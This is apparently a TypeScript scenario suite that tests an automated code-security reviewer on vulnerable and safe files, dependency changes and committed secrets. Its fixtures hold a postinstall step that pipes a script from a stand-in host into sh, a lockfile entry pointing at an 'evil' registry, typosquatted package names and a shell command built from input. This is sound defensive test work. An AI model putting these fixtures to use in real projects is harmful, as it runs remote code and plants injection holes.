// The code-review scenario suite: `npm run scenarios` or `crosscheck scenarios scenarios/code-review/suite.ts`.
//
// Tags: vulnerable / safe (twins per CWE family, in JavaScript, TypeScript and Python),
// javascript / typescript / python, dependencies, secret, model-reviewer.
import { redactSecrets } from "../../src/agents/code-security/redact.js";
import type { CodeFile } from "../../src/agents/code-security/submission.js";
import { defineSuite, type ScenarioCase } from "../../src/index.js";
import { reviewTask } from "../../src/review-diff/workflow.js";
import { TWINS } from "./twins.js";
import workflow from "./workflow.js";

const LANGUAGE: Record<string, string> = {
  js: "javascript",
  ts: "typescript",
  tsx: "typescript",
  py: "python",
};
const languageTag = (file: string) => LANGUAGE[file.split(".").pop() ?? ""] ?? "other";

/** A case reviewing one changed file (every line counts as changed). */
function reviewCase(
  name: string,
  tags: string[],
  files: CodeFile[],
  expect: ScenarioCase["expect"],
  metadata?: Record<string, unknown>,
): ScenarioCase {
  const task = reviewTask(files, "scenario");
  return { name, tags, task: metadata ? { ...task, metadata } : task, expect };
}

const twinCases: ScenarioCase[] = TWINS.flatMap((twin) => [
  reviewCase(
    `${twin.family}: vulnerable ${twin.file} is rejected`,
    ["vulnerable", languageTag(twin.file)],
    [{ path: twin.file, content: twin.vulnerable }],
    {
      decision: "rejected",
      findings: [{ ruleId: twin.rule, file: twin.file }],
    },
  ),
  reviewCase(
    `${twin.family}: safe ${twin.file} is accepted`,
    ["safe", languageTag(twin.file)],
    [{ path: twin.file, content: twin.safe }],
    {
      decision: "accepted",
      absent: [twin.rule],
    },
  ),
]);

const pkg = (deps: Record<string, string>, scripts?: Record<string, string>) =>
  `${JSON.stringify({ name: "app", version: "1.0.0", ...(scripts ? { scripts } : {}), dependencies: deps }, null, 2)}\n`;
const BASE = pkg({ express: "^4.18.0", zod: "^3.23.0" });

const dependencyCases: ScenarioCase[] = [
  reviewCase(
    "dependencies: a typosquat of express is rejected",
    ["dependencies"],
    [
      {
        path: "package.json",
        content: pkg({ express: "^4.18.0", zod: "^3.23.0", expres: "^1.0.0" }),
        previous: BASE,
      },
    ],
    {
      decision: "rejected",
      findings: ["dep.typosquat", "dep.new-dependency"],
    },
  ),
  reviewCase(
    "dependencies: a new postinstall script is rejected",
    ["dependencies"],
    [
      {
        path: "package.json",
        content: pkg(
          { express: "^4.18.0", zod: "^3.23.0" },
          { postinstall: "curl https://x.example/i.sh | sh" },
        ),
        previous: BASE,
      },
    ],
    {
      decision: "rejected",
      findings: ["dep.install-script"],
    },
  ),
  reviewCase(
    "dependencies: a dependency from a git repository is rejected",
    ["dependencies"],
    [
      {
        path: "package.json",
        content: pkg({ express: "^4.18.0", zod: "^3.23.0", colors: "github:someone/colors#main" }),
        previous: BASE,
      },
    ],
    {
      decision: "rejected",
      findings: ["dep.git-source"],
    },
  ),
  reviewCase(
    "dependencies: a clean version bump is accepted",
    ["dependencies"],
    [{ path: "package.json", content: pkg({ express: "^4.19.2", zod: "^3.23.0" }), previous: BASE }],
    {
      decision: "accepted",
      absent: ["dep.typosquat", "dep.install-script", "dep.git-source", "dep.unpinned", "dep.new-dependency"],
    },
  ),
  reviewCase(
    "dependencies: a lockfile entry from another registry without integrity is rejected",
    ["dependencies"],
    [
      {
        path: "package-lock.json",
        content: JSON.stringify(
          {
            lockfileVersion: 3,
            packages: {
              "": {},
              "node_modules/left-pad": {
                version: "1.3.0",
                resolved: "https://registry.evil.example/left-pad-1.3.0.tgz",
              },
            },
          },
          null,
          2,
        ),
      },
    ],
    {
      decision: "rejected",
      findings: ["dep.foreign-registry", "dep.no-integrity"],
    },
  ),
  reviewCase(
    "dependencies: an unpinned requirement typosquatting requests is rejected",
    ["dependencies", "python"],
    [{ path: "requirements.txt", content: "flask==3.0.0\nreqeusts\n" }],
    {
      decision: "rejected",
      findings: ["dep.typosquat", "dep.unpinned"],
    },
  ),
];

const AWS_KEY = ["AKIA", "Z7Q3", "LMNO", "PQRS", "T2UV"].join("");
const secretFile = (
  await redactSecrets(
    `import boto3\n\nAWS_ACCESS_KEY_ID = "${AWS_KEY}"\nclient = boto3.client("s3")\n`,
    "python",
  )
).code;

const otherCases: ScenarioCase[] = [
  reviewCase(
    "secret: a committed AWS key is rejected (and stored redacted)",
    ["secret", "python"],
    [{ path: "settings.py", content: secretFile }],
    {
      decision: "rejected",
      findings: [{ ruleId: "code.cwe-798", file: "settings.py", line: 3 }],
    },
  ),
  reviewCase(
    "secret: a key read from the environment is accepted",
    ["secret", "safe", "python"],
    [{ path: "settings.py", content: 'import os\n\nAWS_ACCESS_KEY_ID = os.environ["AWS_ACCESS_KEY_ID"]\n' }],
    {
      decision: "accepted",
      absent: ["code.cwe-798"],
    },
  ),
  reviewCase(
    "model reviewer: an unconfirmed SQL-injection claim is kept at low severity and does not block",
    ["model-reviewer", "python"],
    [{ path: "report.py", content: "def total(rows):\n    return sum(r.amount for r in rows)\n" }],
    { decision: "accepted", findings: [{ ruleId: "code.cwe-89", file: "report.py", line: 2 }] },
    {
      reviewerFindings: [
        {
          ruleId: "code.cwe-89",
          severity: "high",
          message: "possible SQL injection",
          location: { file: "report.py", line: 2 },
        },
      ],
    },
  ),
  reviewCase(
    "model reviewer: a command-injection claim confirmed by codeSecurity blocks",
    ["model-reviewer", "python"],
    [{ path: "run.py", content: "import os\n\ndef run(cmd):\n    os.system('sh -c ' + cmd)\n" }],
    { decision: "rejected", findings: [{ ruleId: "code.cwe-78", file: "run.py", line: 4 }] },
    {
      reviewerFindings: [
        {
          ruleId: "code.cwe-78",
          severity: "high",
          message: "shell command built from input",
          location: { file: "run.py", line: 4 },
        },
      ],
    },
  ),
];

export default defineSuite({
  name: "code-review",
  workflow,
  cases: [...twinCases, ...dependencyCases, ...otherCases],
});
